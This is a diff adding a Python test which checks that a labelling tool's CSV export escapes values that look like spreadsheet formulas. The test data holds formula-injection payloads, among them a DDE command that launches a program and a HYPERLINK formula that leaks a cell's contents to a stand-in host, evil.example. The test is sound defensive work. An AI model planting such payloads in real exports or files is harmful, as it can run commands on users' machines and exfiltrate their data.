@@ -69,3 +69,22 @@ def test_coco_export_for_boxes(ctx, tmp_path, config):
     by_category = {a["category_id"]: a for a in coco["annotations"]}
     assert by_category[2]["bbox"] == [1, 2, 10, 8] and by_category[2]["area"] == 80
     assert by_category[1]["bbox"] == [20, 20, 5, 5] and all(a["image_id"] == item.id for a in coco["annotations"])
+
+
+def test_csv_export_keeps_formulas_as_text(ctx, tmp_path, config):
+    """Answers and external ids that look like spreadsheet formulas reach the CSV as text, not formulas."""
+    from sapien.quality import exports
+
+    config(QUALITY_CONFIDENCE_THRESHOLD=0.5)
+    external_ids = ["@SUM(A1:A9)", "=cmd|' /C calc'!A0", "-2+3", "+1", "plain"]
+    texts = ['=HYPERLINK("http://evil.example/?leak="&A1, "Click me")', "@SUM(1+1)", "-1+1", "+cmd", "Fine."]
+    rows = [{"external_id": external_id, "text": f"Clean item {n}."} for n, external_id in enumerate(external_ids)]
+    pack = make_pack(tmp_path, rows=rows, task_type="text_cleaning", labels_per_item=1, max_labels_per_item=1)
+    author = make_user()
+    for item, text in zip(items_of(pack.id), texts, strict=True):
+        answer(author, item.id, {"text": text})
+    exported = list(csv.DictReader(io.StringIO("".join(exports.export_csv(pack.id)))))
+    assert [row["external_id"] for row in exported] == ["'@SUM(A1:A9)", "'=cmd|' /C calc'!A0", "'-2+3", "'+1", "plain"]
+    assert [row["answer"] for row in exported] == ["'" + text for text in texts[:4]] + ["Fine."]
+    # The JSON column starts with "{": it is left as it is, and still parses.
+    assert json.loads(exported[0]["answer_json"]) == {"text": texts[0]}
